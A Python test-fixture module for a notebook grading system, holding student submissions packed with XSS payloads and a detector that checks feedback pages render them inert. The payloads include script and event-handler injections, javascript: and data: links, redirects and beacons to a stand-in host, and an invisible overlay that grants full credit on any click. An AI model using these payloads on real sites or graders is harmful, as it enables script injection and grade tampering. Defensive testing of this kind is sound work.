"""Submissions that attack the feedback page's reader: hostile HTML, JavaScript, widgets, SVG.

Each is a correct solution of tutorial 01 (full marks) that also displays, prints and
writes markup meant to run in the instructor's (or student's) browser when the feedback
page is opened. ``tests/test_feedback_is_inert.py`` grades them end to end and checks the
pages with :func:`live_hazards`; ``tests/test_safe_feedback.py`` reuses the payloads
without a kernel.
"""

from __future__ import annotations

import base64
import re
from html import unescape

from bs4 import BeautifulSoup

from misbehaving import ATTENTION, ATTENTION_ALONE, BOTH, SOFTMAX

EVIL = "evil.example"  # any live reference to this host in a page is a failure
# a 1x1 PNG
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
       "RU5ErkJggg==")

HOSTILE_HTML = [
    "<script>alert('script')</script>",
    # no script: formgrader's own code gives full credit for a click on anything of class
    # "full-credit" in the cell, and Bootstrap makes this an invisible layer over the page
    '<div class="modal-backdrop fade full-credit"></div>',
    '<span class="btn btn-success full-credit">Show my derivation</span>',
    "<ScRiPt>alert('mixed case')</sCrIpT>",
    "<img src=x onerror=alert('onerror')>",
    "<IMG SRC=x OnErRoR=alert('mixed onerror')>",
    "<svg onload=alert('svg')><script>alert('svg script')</script></svg>",
    "<a href=\"javascript:alert('link')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('mixed link')\">mixed</a>",
    "<a href=\"&#106;avascript:alert('entity link')\">entity</a>",
    "<a href=\"java&#x09;script:alert('tab link')\">tab</a>",
    "<a href=\" javascript:alert('space link')\">space</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    f"<meta http-equiv=\"refresh\" content=\"0;url=https://{EVIL}/\">",
    f"<base href=\"https://{EVIL}/\">",
    f"<form action=\"https://{EVIL}/\"><input name=x>"
    "<button formaction=\"javascript:alert('formaction')\">go</button></form>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"javascript:alert('embed')\">",
    f"<link rel=stylesheet href=\"https://{EVIL}/x.css\">",
    f"<style>@import url(https://{EVIL}/x.css); .student-style {{color: red}}</style>",
    f"<div style=\"position:fixed;top:0;background:url(https://{EVIL}/x.png)\">Score 4/4</div>",
    f"<img src=\"https://{EVIL}/beacon.png\">",
    "<details open ontoggle=alert('toggle')><summary>s</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></p></noscript>",
]
HOSTILE_MARKDOWN = [
    "[md link](javascript:alert('md'))",
    "[mixed md link](JaVaScRiPt:alert('md mixed'))",
    "[entity md link](&#106;avascript:alert('md entity'))",
    "[data md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![beacon](https://{EVIL}/beacon.png)",
]
# (an unclosed <style> swallows the rest of its cell, so the HTML comes last)
THINK_ANSWER = ("## My answer\n\nThe gain *multiplies* the input; attention re-weights the "
                "context without retraining.\n\n![sneaky](attachment:page.html) "
                "![figure](attachment:figure.svg)\n\n"
                + "\n\n".join(HOSTILE_MARKDOWN + HOSTILE_HTML))

# Everything IPython can display, from an answer cell, before a correct answer.
_DISPLAYS = f'''\
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({"".join(HOSTILE_HTML)!r}))
display(HTML("<p>isolated</p><script>alert('isolated')</script>", metadata={{"isolated": True}}))
display(Javascript("alert('javascript output')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'))
display(Markdown({"  ".join(HOSTILE_MARKDOWN) + " <script>alert('md output')</script>"!r}))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2,
                                                       "version_minor": 0}},
          "text/plain": "IntSlider(value=3)"}}, raw=True)
display({{"image/png": {PNG!r}, "text/plain": "<a 1x1 figure>"}}, raw=True,
        metadata={{"image/png": {{"width": "1 onerror=alert('width')"}},
                  "filenames": {{"image/png": "https://{EVIL}/x.png"}}}})
print("<script>alert('print')</script> printed text stays text")


class Hostile:
    def _repr_html_(self):
        return "<script>alert('repr')</script><img src=x onerror=alert('repr img')>"

    def _repr_javascript_(self):
        return "alert('repr js')"


display(Hostile())
'''


# A correct answer whose cell then sends hostile bundles and metadata straight to the
# front end, and fails with an exception whose name and message are markup.
_SOFTMAX_THEN_RAISE = f'''\
def stable_softmax(x: torch.Tensor, dim: int = -1) -> torch.Tensor:
    e = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)


get_ipython().display_pub.publish(
    data={{"text/html": "<script>alert('publish')</script>", "application/x-evil": "<script>",
          "image/svg+xml": "<svg onload=alert('publish svg')/>", "text/plain": "published"}},
    metadata={{"text/html": {{"isolated": True}}, "filenames": {{"image/png": "https://{EVIL}/"}}}})
print("\\x1b[31m<script>alert('ansi')</script>\\x1b[0m coloured text")


class Bundle:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {{"text/html": "<iframe src=javascript:alert('bundle')></iframe>",
                 "application/javascript": "alert('bundle js')", "text/plain": "a bundle"}}


display(Bundle())
raise type("<img src=x onerror=alert('ename')>", (Exception,), {{}})(
    "<script>alert('evalue')</script> raised on purpose")
'''


def _hostile_markdown_and_raw(notebook: dict, folder) -> None:
    """Think! answers full of hostile markup and attachments, plus raw HTML cells."""
    script = base64.b64encode(b"<script>alert('attachment')</script>").decode()
    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("think_"):
            cell["source"] = THINK_ANSWER
            cell["attachments"] = {"page.html": {"text/html": script},
                                   "figure.svg": {"image/svg+xml": svg}}
    notebook["cells"] += [
        {"cell_type": "raw", "id": "hostile-raw", "source": "".join(HOSTILE_HTML),
         "metadata": {"raw_mimetype": "text/html"}},
        {"cell_type": "markdown", "id": "hostile-markdown", "metadata": {},
         "source": "\n\n".join(HOSTILE_MARKDOWN + HOSTILE_HTML)},
    ]


BANK = {
    # displays every kind of hostile output, writes it into its Think! answers and adds raw
    # HTML cells: the feedback page shows it all as text, none of it runs; full marks
    "html_outputs": ({ATTENTION.name: _DISPLAYS + ATTENTION_ALONE}, {},
                     BOTH,
                     _hostile_markdown_and_raw),
    # publishes raw bundles with hostile metadata and raises an exception whose name and
    # message are markup, after a correct answer: shown as text; full marks
    "html_in_errors": ({SOFTMAX.name: _SOFTMAX_THEN_RAISE}, {},
                       BOTH),
}


def _url(value: str) -> str:
    """A URL as a browser reads its scheme: entities decoded, blanks dropped, lower case."""
    return re.sub(r"[`\x00-\x20\x7f-\xa0\s]+", "", unescape(value)).lower()


FORBIDDEN = ["script", "iframe", "frame", "object", "embed", "applet", "base", "form",
             "input", "button", "link", "svg", "math", "noscript"]


# Classes a page's own scripts or styles act on: formgrader's grading buttons, Bootstrap's
# overlays and buttons.
ACTIVE_CLASSES = {"full-credit", "no-credit", "mark-graded", "modal", "modal-backdrop", "btn"}


def live_hazards(html: str) -> list[str]:
    """Everything in ``html`` a browser would run, load or follow, found two ways.

    Once on a parsed tree, once on the raw text (every '<' left in a page starts a real
    tag, since text is escaped), so a parser quirk alone cannot hide a hazard.
    """
    hazards = []
    soup = BeautifulSoup(html, "html.parser")
    hazards += [f"<{tag.name}>" for tag in soup.find_all(FORBIDDEN)]
    for meta in soup.find_all("meta"):
        if meta.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            hazards.append(f"meta {meta}")
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name == "class" and ACTIVE_CLASSES & set(value):
                hazards.append(f"{tag.name} class={' '.join(value)!r}")
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on") or name.lower() in ("srcdoc", "formaction"):
                hazards.append(f"{tag.name} {name}={value!r}")
            if _url(value).startswith(("javascript:", "vbscript:", "data:")) and not (
                    tag.name == "img" and name == "src"
                    and re.fullmatch(r"data:image/(png|jpeg);base64,[\w+/=]*", _url(value))):
                hazards.append(f"{tag.name} {name}={value[:60]!r}")
            if EVIL in value:
                hazards.append(f"{tag.name} {name} loads {value!r}")
        if tag.name == "style" and (EVIL in tag.text or "student-style" in tag.text):
            hazards.append(f"a student's <style>: {tag.text[:60]!r}")
    for raw in re.findall(r"<[a-zA-Z][^>]*>", html):
        name = re.match(r"<([a-zA-Z0-9]+)", raw).group(1).lower()
        if name in FORBIDDEN or re.search(r"\son[a-z]+\s*=", raw, re.I) or re.search(
                r"=\s*[\"']?\s*(javascript|vbscript|data:text)", _url(raw)):
            hazards.append(f"raw {raw[:80]}")
    return hazards
